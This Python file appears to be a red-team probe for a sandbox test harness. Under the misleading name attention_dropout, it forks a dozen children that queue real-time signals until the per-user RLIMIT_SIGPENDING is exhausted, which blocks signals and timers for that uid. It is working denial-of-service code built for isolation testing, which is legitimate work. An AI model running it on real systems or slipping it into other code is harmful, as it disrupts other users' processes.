"""Red team (issue 26, per-user): pending real-time signals spread over 12 children. Each child blocks
every real-time signal, then queues them to itself (sigqueue) until the kernel says EAGAIN: every pending
signal is charged to the uid's RLIMIT_SIGPENDING (in a user namespace, to the instructor's uid above it
too), so no program of that user can queue a signal or create a POSIX timer while they are held.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import select as _select
import signal as _signal
import time as _time

_DEADLINE = [0.0]  # when the parent stops waiting: 2.5 s after the call, well inside a 5 s step
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.sigqueue.argtypes = [_ctypes.c_int, _ctypes.c_int, _ctypes.c_void_p]


def _child(write_end):
    queued = 0
    try:
        low, high = _signal.SIGRTMIN, _signal.SIGRTMAX
        _signal.pthread_sigmask(_signal.SIG_BLOCK, range(low, high + 1))
        me = _os.getpid()
        for index in range(4000):
            if index % 64 == 0 and _time.monotonic() > _DEADLINE[0] - 0.4:
                break
            if _libc.sigqueue(me, low + index % (high - low + 1), index) != 0:
                break
            queued += 1
    finally:
        _os.write(write_end, f"{queued}\n".encode())
        _os.close(write_end)
    _os.setsid()
    _time.sleep(60)


def _queue(children=12):
    read_end, write_end = _os.pipe()
    started = 0
    for _ in range(children):
        if _time.monotonic() > _DEADLINE[0] - 1.0:
            break
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _os.close(read_end)
                _child(write_end)
            finally:
                _os._exit(0)
        started += 1
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    return started, sum(int(line) for line in text.split() if line.isdigit())


def _collect(read_end, deadline):
    """What the children reported before `deadline` (a slow child does not hold the step past it)."""
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    started, queued = _queue()
    raise RuntimeError(f"RTEAM r_sigqueue_children ran: ALLOWANCE signals {queued} pending in {started} children")
